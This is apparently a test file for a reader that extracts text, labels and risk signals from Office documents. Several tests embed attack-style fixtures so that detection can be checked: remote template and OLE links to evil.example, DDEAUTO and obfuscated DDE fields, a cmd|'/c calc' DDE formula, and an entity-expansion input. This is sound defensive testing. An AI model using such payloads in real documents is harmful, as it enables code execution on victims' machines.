import { describe, expect, it } from 'vitest';
import { readOoxml } from '../../../../core/mail/extract/readers/ooxml.ts';
import { docx, read, rels, zip } from './build.ts';

const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
const paragraph = (text: string) => `<w:p>${run(text)}</w:p>`;

describe('word documents', () => {
  it('joins runs, puts paragraphs on lines and cells between tabs', async () => {
    const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;
    const body = `<w:p>${run('PROT')}${run('ECTED B')}</w:p><w:tbl><w:tr>${cell('a')}${cell('b')}</w:tr><w:tr>${cell('')}${cell('d')}</w:tr></w:tbl>${paragraph('end')}`;
    expect((await read(readOoxml, docx(body))).of('body')).toEqual(['PROTECTED B\na\tb\n\td\nend']);
  });

  it('does not take tab stops of a paragraph for tabs', async () => {
    const body = `<w:p><w:pPr><w:tabs><w:tab w:val="left"/></w:tabs></w:pPr>${run('x')}<w:r><w:tab/></w:r>${run('y')}</w:p>`;
    expect((await read(readOoxml, docx(body))).of('body')).toEqual(['x\ty']);
  });

  it('R-204 tells header, footer, note, comment and watermark from the body', async () => {
    const header = `${paragraph('SECRET')}<w:r><w:pict><v:shape id="PowerPlusWaterMarkObject1"><v:textpath string="DRAFT"/></v:shape></w:pict></w:r>`;
    const file = docx(
      paragraph('text'),
      {
        'word/header1.xml': `<w:hdr>${header}</w:hdr>`,
        'word/footer1.xml': `<w:ftr>${paragraph('PROTECTED A')}</w:ftr>`,
        'word/footnotes.xml': `<w:footnotes>${paragraph('note')}</w:footnotes>`,
        'word/comments.xml': `<w:comments><w:comment w:author="Ann">${paragraph('hm')}</w:comment></w:comments>`,
      },
      { header: 'header1.xml', footer: 'footer1.xml', footnotes: 'footnotes.xml', comments: 'comments.xml' },
    );
    const found = await read(readOoxml, file);
    expect(found.of('page-header')).toEqual(['SECRET']);
    expect(found.of('watermark')).toEqual(['DRAFT']);
    expect(found.of('page-footer')).toEqual(['PROTECTED A']);
    expect(found.of('footnote')).toEqual(['note']);
    expect(found.of('comment')).toEqual(['Ann: hm']);
    expect(found.of('body')).toEqual(['text']);
  });

  it('reads a text box once although it is written for two kinds of program', async () => {
    const box = `<w:txbxContent>${paragraph('boxed')}</w:txbxContent>`;
    const body = `<w:p><mc:AlternateContent><mc:Choice>${box}</mc:Choice><mc:Fallback>${box}</mc:Fallback></mc:AlternateContent></w:p>`;
    expect((await read(readOoxml, docx(body))).of('text-box')).toEqual(['boxed']);
    const old = `<w:p><mc:AlternateContent><mc:Choice/><mc:Fallback>${box}</mc:Fallback></mc:AlternateContent></w:p>`;
    expect((await read(readOoxml, docx(old))).of('text-box')).toEqual(['boxed']);
  });

  it('keeps deleted and invisible text apart from what a reader sees', async () => {
    const body = `<w:p>${run('seen')}<w:del><w:r><w:delText>gone</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>!</w:t></w:r></w:p>`;
    const found = await read(readOoxml, docx(body));
    expect(found.of('body')).toEqual(['seen!']);
    expect(found.of('hidden')).toEqual(['gonesecret']);
  });

  it('counts list items as the program does', async () => {
    const level = (at: number, format: string, text: string) =>
      `<w:lvl w:ilvl="${at}"><w:start w:val="1"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${text}"/></w:lvl>`;
    const numbering = `<w:numbering><w:abstractNum w:abstractNumId="7">${level(0, 'decimal', '%1.')}${level(1, 'lowerLetter', '%1.%2)')}</w:abstractNum><w:num w:numId="3"><w:abstractNumId w:val="7"/></w:num></w:numbering>`;
    const entry = (text: string, at: number) =>
      `<w:p><w:pPr><w:numPr><w:ilvl w:val="${at}"/><w:numId w:val="3"/></w:numPr></w:pPr>${run(text)}</w:p>`;
    const body =
      entry('one', 0) +
      entry('first', 1) +
      entry('second', 1) +
      paragraph('plain') +
      entry('two', 0) +
      entry('again', 1);
    const file = docx(body, { 'word/numbering.xml': numbering }, { numbering: 'numbering.xml' });
    expect((await read(readOoxml, file)).of('body')).toEqual([
      '1. one\n1.a) first\n1.b) second\nplain\n2. two\n2.a) again',
    ]);
  });

  it('names pictures and targets that no text shows', async () => {
    const body = `<w:p><w:r><w:drawing><wp:docPr id="1" name="Picture 1" descr="map of the harbour"/></w:drawing></w:r><w:r><w:pict><v:shape href="http://elsewhere.example/x"/></w:pict></w:r></w:p>`;
    expect((await read(readOoxml, docx(body))).of('hidden')).toEqual([
      'map of the harbour\nhttp://elsewhere.example/x\n',
    ]);
  });

  it('R-204 lists properties and sensitivity labels by name', async () => {
    const found = await read(
      readOoxml,
      docx(paragraph('x'), {
        'docProps/core.xml': '<cp:coreProperties><dc:subject>PROTECTED B</dc:subject></cp:coreProperties>',
        'docProps/custom.xml':
          '<Properties><property name="MSIP_Label_1234_Name"><vt:lpwstr>Secret &amp; more</vt:lpwstr></property></Properties>',
        'docMetadata/LabelInfo.xml': '<clbl:labelList><clbl:label id="{abcd}" enabled="1"/></clbl:labelList>',
      }),
    );
    expect(found.property('subject')).toBe('PROTECTED B');
    expect(found.property('MSIP_Label_1234_Name')).toBe('Secret & more');
    expect(found.property('MSIP_Label')).toBe('{abcd}');
  });

  it('R-102 notes remote templates, linked objects and DDE fields, spelled out or hidden in codes', async () => {
    const remote = docx(
      paragraph('x'),
      {
        'word/settings.xml': '<w:settings/>',
        'word/_rels/settings.xml.rels': rels({ attachedTemplate: '!https://evil.example/a.dotm' }),
      },
      { oleObject: '!https://evil.example/x' },
    );
    expect((await read(readOoxml, remote)).facts).toEqual(
      expect.arrayContaining(['external-template', 'external-link']),
    );
    const local = docx(paragraph('x'), {
      'word/_rels/settings.xml.rels': rels({ attachedTemplate: '!file:///C:\\Users\\a\\Normal.dotm' }),
    });
    expect((await read(readOoxml, local)).facts).not.toContain('external-template');
    const field = (...codes: string[]) =>
      codes.map((code) => `<w:fldChar w:fldCharType="begin"/><w:instrText>${code}</w:instrText>`).join('') +
      '<w:fldChar w:fldCharType="end"/>'.repeat(codes.length);
    expect((await read(readOoxml, docx(`<w:p>${field(' DDEAUTO c:\\\\x')}</w:p>`))).facts).toContain('dde');
    expect((await read(readOoxml, docx(`<w:p>${field('', ' QUOTE 68 68 69 ')}</w:p>`))).facts).toContain('dde');
    expect((await read(readOoxml, docx(`<w:p>${field(' DATE \\@ "d"')}</w:p>`))).facts).not.toContain('dde');
  });

  it('hands on embedded files', async () => {
    const found = await read(readOoxml, docx(paragraph('x'), { 'word/embeddings/plan.xlsx': 'PK' }));
    expect(found.got.map(({ name, role }) => ({ name, role }))).toEqual([{ name: 'plan.xlsx', role: 'embedded' }]);
  });

  it('R-103 expands no entities of its own making and nests to any depth', async () => {
    const bomb = zip({
      '_rels/.rels': rels({ officeDocument: 'word/document.xml' }),
      'word/document.xml':
        '<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document><w:p><w:t>&a;&lt;&#66;</w:t></w:p></w:document>',
    });
    expect((await read(readOoxml, bomb)).of('body')).toEqual(['&a;<B']);
    const deep = docx(`${'<w:p>'.repeat(100_000)}${run('down here')}`);
    expect((await read(readOoxml, deep)).of('body')).toEqual(['down here']);
  });

  it('R-103 says so when a document holds more text than it keeps', async () => {
    const found = await read(readOoxml, docx(paragraph('0123456789')), { textPerPart: 4 });
    expect(found).toMatchObject({ read: 'partial', why: 'too-large' });
    expect(found.of('body')).toEqual(['0123']);
  });

  it('R-103 keeps labels when the text is beyond the limit of expansion', async () => {
    const properties = '<Properties><property name="Marking"><v>SECRET</v></property></Properties>';
    const file = docx(paragraph('x'.repeat(5000)), { 'docProps/custom.xml': properties });
    const found = await read(readOoxml, file, { expandedBytes: 2000 });
    expect(found).toMatchObject({ read: 'partial', why: 'too-large' });
    expect(found.property('Marking')).toBe('SECRET');
  });
});

function xlsx(sheet: string, files: Readonly<Record<string, string>> = {}): Uint8Array {
  return zip({
    '_rels/.rels': rels({ officeDocument: 'xl/workbook.xml' }),
    'xl/workbook.xml':
      '<workbook><sheets><sheet name="Data" sheetId="1" r:id="r1"/><sheet name="Old" state="hidden" r:id="r2"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': rels({
      'worksheet#1': 'worksheets/a.xml',
      'worksheet#2': 'worksheets/b.xml',
      sharedStrings: 'strings.xml',
      styles: 'styles.xml',
    }),
    'xl/worksheets/a.xml': sheet,
    'xl/worksheets/b.xml': '<worksheet><row><c t="str"><v>SECRET</v></c></row></worksheet>',
    'xl/strings.xml': '<sst><si><r><t>PROT</t></r><r><t>ECTED B</t></r><rPh><t>x</t></rPh></si></sst>',
    'xl/styles.xml': '<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
    ...files,
  });
}

describe('spreadsheets', () => {
  it('shows cells as a person reads them', async () => {
    const sheet =
      '<worksheet><row><c t="s"><v>0</v></c><c><v>4.111111111111E+15</v></c></row><row><c s="1"><v>44927</v></c><c t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r></is></c></row></worksheet>';
    const found = await read(readOoxml, xlsx(sheet));
    expect(found.texts.find((text) => text.label === 'Data')?.text).toBe(
      'PROTECTED B\t4111111111111000\n2023-01-01\tab',
    );
  });

  it('adds what number formats make of the cells', async () => {
    const styles = `<styleSheet><numFmts><numFmt numFmtId="164" formatCode="&quot;No. &quot;0000"/><numFmt numFmtId="165" formatCode="0&quot; dollars and &quot;.00&quot; cents&quot;"/><numFmt numFmtId="166" formatCode="[$€-407]#,##0.00;[Red]([$€-407]#,##0.00)"/><numFmt numFmtId="167" formatCode="dddd d mmmm yyyy h:mm AM/PM"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="166"/><xf numFmtId="167"/><xf numFmtId="10"/><xf numFmtId="12"/></cellXfs></styleSheet>`;
    const cells = [
      [1, '42'],
      [2, '19.99'],
      [3, '-1599.99'],
      [4, '44927.75'],
      [5, '0.025'],
      [6, '2.5'],
      [0, '7'],
    ].map(([style, value]) => `<c s="${style}"><v>${value}</v></c>`);
    const found = await read(
      readOoxml,
      xlsx(`<worksheet><row>${cells.join('')}</row></worksheet>`, { 'xl/styles.xml': styles }),
    );
    expect(found.texts.find((text) => text.region === 'displayed')?.text.split('\n')).toEqual([
      'No. 0042',
      '19 dollars and .99 cents',
      '(€1,599.99)',
      'Sunday 1 January 2023 6:00 PM',
      '2.50%',
      '2 1/2',
      '',
    ]);
  });

  it('R-204 reads sheet names, page headers and hidden sheets', async () => {
    const sheet =
      '<worksheet><headerFooter><oddHeader>&amp;L&amp;"Arial,Bold"&amp;12SECRET&amp;RPage &amp;P</oddHeader></headerFooter></worksheet>';
    const found = await read(readOoxml, xlsx(sheet));
    expect(found.of('page-header')).toEqual(['SECRET\nPage']);
    expect(found.of('hidden')).toEqual(['SECRET']);
    expect(found.of('sheet')).toEqual(['Data\nOld']);
  });

  it('R-102 notes DDE formulas and macro sheets', async () => {
    const sheet = "<worksheet><row><c><f>cmd|'/c calc'!A1</f><v>0</v></c></row></worksheet>";
    const found = await read(readOoxml, xlsx(sheet, { 'xl/macrosheets/sheet1.xml': '<m/>' }));
    expect(found.facts).toEqual(expect.arrayContaining(['dde', 'xlm-macros']));
  });
});

describe('presentations', () => {
  it('R-204 reads slides in order, notes, footers and masters', async () => {
    const shape = (text: string, type = '') =>
      `<p:sp>${type === '' ? '' : `<p:ph type="${type}"/>`}<p:txBody><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;
    const found = await read(
      readOoxml,
      zip({
        '_rels/.rels': rels({ officeDocument: 'ppt/presentation.xml' }),
        'ppt/presentation.xml':
          '<p:presentation><p:sldId id="1" r:id="r2"/><p:sldId id="2" r:id="r1"/></p:presentation>',
        'ppt/_rels/presentation.xml.rels': rels({ 'slide#1': 'slides/b.xml', 'slide#2': 'slides/a.xml' }),
        'ppt/slides/a.xml': `<p:sld>${shape('first')}${shape('SECRET', 'ftr')}</p:sld>`,
        'ppt/slides/b.xml': `<p:sld>${shape('second')}</p:sld>`,
        'ppt/slides/_rels/a.xml.rels': rels({ notesSlide: '../notes/n.xml', slideLayout: '../layouts/l.xml' }),
        'ppt/notes/n.xml': `<p:notes>${shape('say this')}</p:notes>`,
        'ppt/layouts/l.xml': `<p:sldLayout>${shape('TLP:RED')}</p:sldLayout>`,
      }),
    );
    expect(found.of('slide')).toEqual(['first', 'second']);
    expect(found.of('page-footer')).toEqual(['SECRET']);
    expect(found.of('notes')).toEqual(['say this']);
    expect(found.of('master')).toEqual(['TLP:RED']);
  });
});
